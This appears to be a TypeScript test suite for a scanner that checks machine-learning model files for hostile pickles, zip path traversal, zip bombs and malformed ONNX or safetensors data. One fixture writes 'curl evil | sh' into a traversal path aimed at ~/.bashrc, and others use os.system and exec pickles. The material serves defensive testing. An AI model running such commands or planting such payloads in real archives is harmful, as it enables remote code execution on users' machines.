import { existsSync, rmSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { benignExternalDataModel, customOperatorInSubgraphModel, escapingExternalDataModel } from '../../../test/fixtures/hostile-onnx';
import { npyFile } from '../../../test/fixtures/numpy-files';
import { PICKLE_SENTINEL, hostilePickles, legacyTorchFile, stateDictPickle } from '../../../test/fixtures/pickles';
import { safetensorsFile, validSafetensors } from '../../../test/fixtures/safetensors-files';
import { pytorchCheckpointZip, zipArchive } from '../../../test/fixtures/zip-archives';
import { OnnxModel } from '@gatehouse/onnx';
import { standardFixtures } from '../../../test/fixtures/onnx-models';
import { scanArtifact, type ScanPolicy } from './artifact-scanner';

const MIB = 1024 * 1024;
const POLICY: ScanPolicy = {
  maxZipEntries: 1000,
  maxZipRatio: 250,
  maxZipTotalBytes: 64 * MIB,
  maxZipDepth: 2,
  maxMemberBytes: 32 * MIB,
  maxInflateBytes: 256 * MIB,
  allowedGlobals: [],
  allowedOnnxDomains: [],
};
const [osSystem, builtinsExec] = hostilePickles();
/** Float storage whose first bytes happen to read as a protocol 4 pickle header: storages are data, never unpickled. */
const storage = Buffer.from([0x80, 0x04, 0x63, 0xff, 0, 0, 0x80, 0x3f]);

let directory: string;
beforeAll(() => rmSync(PICKLE_SENTINEL, { force: true }));
afterAll(() => expect(existsSync(PICKLE_SENTINEL)).toBe(false));
beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'gatehouse-scan-'));
});
afterEach(() => rm(directory, { recursive: true, force: true }));

/** Writes the files and scans them as a version holding exactly them. */
async function scan(files: Record<string, Uint8Array>, policy: Partial<ScanPolicy> = {}) {
  for (const [path, bytes] of Object.entries(files)) {
    await mkdir(dirname(join(directory, path)), { recursive: true });
    await writeFile(join(directory, path), bytes);
  }
  return scanArtifact(
    directory,
    Object.entries(files).map(([path, bytes]) => ({ path, size: bytes.length })),
    { ...POLICY, ...policy },
  );
}
const brief = (findings: { severity: string; rule: string; file: string; location: string }[]) =>
  findings.map(({ severity, rule, file, location }) => ({ severity, rule, file, location }));

describe('scanArtifact', () => {
  it('passes benign checkpoints in every container, naming what each file was read as', async () => {
    const result = await scan({
      'model.pt': pytorchCheckpointZip(stateDictPickle(['a', 'b']), [storage, storage]),
      'legacy.pth': legacyTorchFile(),
      'weights.npz': zipArchive([{ name: 'w.npy', data: npyFile("'<f4'", '(2,)', Buffer.alloc(8)), method: 'deflate' }]),
      'model.safetensors': validSafetensors(),
      ...benignExternalDataModel().files,
      'README.md': Buffer.from('# a model\n'),
    });
    expect(result.findings).toEqual([]);
    expect(Object.fromEntries(result.files.map((file) => [file.path, file.format]))).toEqual({
      'model.pt': 'zip',
      'legacy.pth': 'pickle',
      'weights.npz': 'zip',
      'model.safetensors': 'safetensors',
      'model.onnx': 'onnx',
      'weights.bin': 'onnx-external-data',
      'README.md': 'data',
    });
  });

  it('finds a hostile pickle inside a PyTorch zip checkpoint, at its entry and opcode', async () => {
    const { findings } = await scan({ 'model.pt': pytorchCheckpointZip(osSystem.bytes, [storage]) });
    expect(findings).toEqual([
      expect.objectContaining({
        severity: 'CRITICAL',
        rule: 'dangerous_global',
        file: 'model.pt',
        location: 'archive/data.pkl › GLOBAL opcode at byte 0',
        module: 'os',
        name: 'system',
      }),
    ]);
  });

  it('reads every pickle member of a zip, by extension or by first bytes, and nested archives', async () => {
    const inner = zipArchive([{ name: 'extra/state', data: builtinsExec.bytes }]);
    const { findings } = await scan({
      'bundle.zip': zipArchive([
        { name: 'archive/data.pkl', data: stateDictPickle() },
        { name: 'archive/constants.pkl', data: osSystem.bytes, method: 'deflate' },
        { name: 'nested.zip', data: inner },
      ]),
    });
    expect(brief(findings)).toEqual([
      { severity: 'CRITICAL', rule: 'dangerous_global', file: 'bundle.zip', location: 'archive/constants.pkl › GLOBAL opcode at byte 0' },
      { severity: 'CRITICAL', rule: 'dangerous_global', file: 'bundle.zip', location: 'nested.zip › extra/state › GLOBAL opcode at byte 2' },
    ]);
  });

  it('scans an object array in a .npy or .npz as the pickle numpy would load', async () => {
    const objects = npyFile("'|O'", '(1,)', osSystem.bytes);
    const { findings } = await scan({ 'features.npy': objects, 'arrays.npz': zipArchive([{ name: 'labels.npy', data: objects, method: 'deflate' }]) });
    expect(brief(findings)).toEqual([
      { severity: 'CRITICAL', rule: 'dangerous_global', file: 'arrays.npz', location: 'labels.npy › object array data › GLOBAL opcode at byte 0' },
      { severity: 'CRITICAL', rule: 'dangerous_global', file: 'features.npy', location: 'object array data › GLOBAL opcode at byte 0' },
    ]);
  });

  it('scans ONNX external data by its content: tensor bytes pass, a pickle hiding as weights does not', async () => {
    const benign = benignExternalDataModel().files;
    const pickleLike = Buffer.concat([Buffer.from([0x80, 0x03, 0x40, 0x3f]), Buffer.from(benign['weights.bin']).subarray(4)]);
    expect((await scan({ ...benign, 'weights.bin': pickleLike })).findings).toEqual([]);
    const hostile = Buffer.alloc(benign['weights.bin'].length);
    hostile.set(osSystem.bytes);
    const { findings } = await scan({ ...benign, 'weights.bin': hostile });
    // After the pickle come zeros, which no unpickler reads: the file fails closed on that too.
    expect(brief(findings)).toEqual([
      { severity: 'CRITICAL', rule: 'dangerous_global', file: 'weights.bin', location: 'GLOBAL opcode at byte 0' },
      { severity: 'HIGH', rule: 'pickle_unreadable', file: 'weights.bin', location: `byte ${osSystem.bytes.length}` },
    ]);
  });

  it('scans members PyTorch would not treat as storages, and directory names that carry data', async () => {
    const objects = npyFile("'|O'", '(1,)', osSystem.bytes);
    const { findings } = await scan({
      // A root-level data.pkl does not make this a torch checkpoint: data/evil.npy is numpy's to load.
      'prefix.npz': zipArchive([
        { name: 'data.pkl', data: stateDictPickle() },
        { name: 'data/evil.npy', data: objects },
      ]),
      'dir.npz': zipArchive([{ name: 'evil.npy/', data: objects }]),
    });
    expect(brief(findings)).toEqual([
      { severity: 'CRITICAL', rule: 'dangerous_global', file: 'dir.npz', location: 'evil.npy/ › object array data › GLOBAL opcode at byte 0' },
      { severity: 'CRITICAL', rule: 'dangerous_global', file: 'prefix.npz', location: 'data/evil.npy › object array data › GLOBAL opcode at byte 0' },
    ]);
  });

  it('unpacks compressed files, whatever their name, and refuses the kinds it cannot unpack', async () => {
    const { findings, files } = await scan({ 'model.sav': gzipSync(osSystem.bytes), 'model.7z': Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]) });
    expect(brief(findings)).toEqual([
      { severity: 'CRITICAL', rule: 'dangerous_global', file: 'model.sav', location: 'gzip data › GLOBAL opcode at byte 0' },
      { severity: 'HIGH', rule: 'unscannable_archive', file: 'model.7z', location: '(whole file)' },
    ]);
    expect(files).toEqual([
      { path: 'model.sav', format: 'compressed' },
      { path: 'model.7z', format: 'not scanned' },
    ]);
  });

  it('stops a bomb at the version budget, across files', async () => {
    const text = gzipSync(Buffer.alloc(6 * MIB, 'a'));
    const { findings } = await scan({ 'a.gz': text, 'b.gz': text }, { maxInflateBytes: 10 * MIB });
    expect(brief(findings)).toEqual([{ severity: 'HIGH', rule: 'inflate_budget', file: 'b.gz', location: '(whole file)' }]);
  });

  it('refuses zip entries that would extract outside the directory', async () => {
    const { findings } = await scan({
      'model.zip': zipArchive([
        { name: '../../home/user/.bashrc', data: Buffer.from('curl evil | sh\n') },
        { name: '/etc/cron.d/job', data: Buffer.from('x') },
      ]),
    });
    expect(brief(findings)).toEqual([
      { severity: 'CRITICAL', rule: 'zip_path_traversal', file: 'model.zip', location: '../../home/user/.bashrc' },
      { severity: 'CRITICAL', rule: 'zip_path_traversal', file: 'model.zip', location: '/etc/cron.d/job' },
    ]);
  });

  it('refuses zip bombs by ratio, by total, by lying sizes and by nesting, while small on disk', async () => {
    const zeros = Buffer.alloc(8 * MIB);
    const bomb = zipArchive([{ name: 'archive/data/0', data: zeros, method: 'deflate' }]);
    expect(bomb.length).toBeLessThan(20_000);
    expect(brief((await scan({ 'bomb.pt': bomb })).findings)).toEqual([{ severity: 'HIGH', rule: 'zip_bomb', file: 'bomb.pt', location: 'archive/data/0' }]);
    expect(
      brief(
        (
          await scan(
            {
              'big.zip': zipArchive([
                { name: 'a', data: Buffer.alloc(2 * MIB, 1) },
                { name: 'b', data: Buffer.alloc(2 * MIB, 2) },
              ]),
            },
            { maxZipTotalBytes: 3 * MIB },
          )
        ).findings,
      ),
    ).toEqual([{ severity: 'HIGH', rule: 'zip_bomb', file: 'big.zip', location: '(whole file)' }]);
    // Declares 1 KiB but inflates to 8 MiB: caught while inflating, not trusted from the header.
    const liar = zipArchive([{ name: 'data.pkl', data: Buffer.concat([stateDictPickle(), zeros]), method: 'deflate', declaredSize: 1024 }]);
    expect(brief((await scan({ 'liar.pt': liar }, { maxZipRatio: 1e9 })).findings)).toEqual([{ severity: 'HIGH', rule: 'zip_bomb', file: 'liar.pt', location: 'data.pkl' }]);
    let nested = zipArchive([{ name: 'data.pkl', data: stateDictPickle() }]);
    for (let level = 0; level < 3; level++) nested = zipArchive([{ name: `level${level}.zip`, data: nested }]);
    expect(brief((await scan({ 'deep.zip': nested })).findings)).toEqual([
      { severity: 'HIGH', rule: 'zip_nesting', file: 'deep.zip', location: 'level2.zip › level1.zip › level0.zip' },
    ]);
    expect((await scan({ 'deep.zip': nested }, { maxZipDepth: 3 })).findings).toEqual([]);
  });

  it('reports ONNX, safetensors and unreadable pickles by what is wrong with each', async () => {
    const escaping = escapingExternalDataModel();
    const { findings } = await scan({
      'escape/model.onnx': escaping.files[escaping.model],
      'custom/model.onnx': customOperatorInSubgraphModel().files['model.onnx'],
      'broken.safetensors': safetensorsFile(
        '{"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}',
        Buffer.alloc(4),
      ),
      'optimizer.bin': Buffer.from('\x80\x02]q\x00(K\x01K\x02K\x03K\x04K\x05\xff', 'latin1'),
    });
    expect(findings.map(({ severity, rule, file }) => `${severity} ${rule} ${file}`).sort()).toEqual(
      [
        'CRITICAL external_data_path_traversal escape/model.onnx',
        'HIGH custom_operator custom/model.onnx',
        'HIGH safetensors_duplicate_key broken.safetensors',
        'HIGH pickle_unreadable optimizer.bin',
      ].sort(),
    );
  });

  it('scans the ONNX model its caller already parsed instead of parsing the file again', async () => {
    const custom = OnnxModel.parse(customOperatorInSubgraphModel().files['model.onnx']);
    await writeFile(join(directory, 'model.onnx'), standardFixtures().classifier.model.bytes);
    const { findings } = await scanArtifact(directory, [{ path: 'model.onnx', size: 1 }], POLICY, (path) => (path === 'model.onnx' ? Promise.resolve(custom) : undefined));
    expect(findings.map((finding) => finding.rule)).toEqual(['custom_operator']);
  });

  it('fails closed on a file it cannot read', async () => {
    await writeFile(join(directory, 'model.pkl'), stateDictPickle());
    const result = await scanArtifact(
      directory,
      [
        { path: 'model.pkl', size: 10 },
        { path: 'gone.pt', size: 10 },
      ],
      POLICY,
    );
    expect(brief(result.findings)).toEqual([{ severity: 'HIGH', rule: 'scan_error', file: 'gone.pt', location: '(whole file)' }]);
    expect(result.files).toEqual([
      { path: 'model.pkl', format: 'pickle' },
      { path: 'gone.pt', format: 'not scanned' },
    ]);
  });

  it('refuses to inflate a compressed member larger than the scanner may read', async () => {
    const { findings } = await scan({ 'x.zip': zipArchive([{ name: 'inner.zip', data: Buffer.alloc(4 * MIB), method: 'deflate' }]) }, { maxZipRatio: 1e9, maxMemberBytes: MIB });
    expect(brief(findings)).toEqual([{ severity: 'HIGH', rule: 'member_too_large', file: 'x.zip', location: 'inner.zip' }]);
  });
});
